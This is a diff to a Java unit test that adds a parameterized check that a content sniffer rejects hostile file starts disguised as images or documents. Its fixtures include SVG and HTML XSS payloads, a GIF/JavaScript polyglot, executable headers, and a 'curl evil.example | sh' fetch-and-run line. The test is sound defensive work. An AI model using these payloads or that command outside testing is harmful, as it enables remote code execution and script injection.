@@ -46,6 +46,25 @@ class ContentSnifferTest {
         assertThat(ContentSniffer.sniff(start.getBytes(StandardCharsets.ISO_8859_1))).isEmpty();
     }
 
+    /** What an attacker names photo.jpg or letter.pdf: their start is all that counts, and it is none of ours. */
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
+            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
+            "\u00ef\u00bb\u00bf<!DOCTYPE html><script>alert(1)</script>",
+            "  \n<html><body onload=alert(1)>",
+            "MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u00ff\u00ff",
+            "\u007fELF\u0002\u0001\u0001\u0000\u0000\u0000\u0000\u0000",
+            "#!/bin/sh\ncurl evil.example | sh",
+            "\u00ca\u00fe\u00ba\u00be\u0000\u0000\u0000\u0041 class",
+            "GIF89a/*\u0000\u0000*/=alert(1);<svg onload=alert(1)>",
+            " %PDF-1.7 a PDF behind a space"})
+    void hostileFilesAreNothingWhateverTheyAreCalled(String start) {
+        byte[] bytes = start.getBytes(StandardCharsets.ISO_8859_1);
+
+        assertThat(ContentSniffer.sniff(Arrays.copyOf(bytes, Math.min(bytes.length, ContentSniffer.HEAD_LENGTH)))).isEmpty();
+    }
+
     private static byte[] head(String fixture) {
         byte[] bytes = TestFiles.bytes(fixture);
         return Arrays.copyOf(bytes, Math.min(bytes.length, ContentSniffer.HEAD_LENGTH));
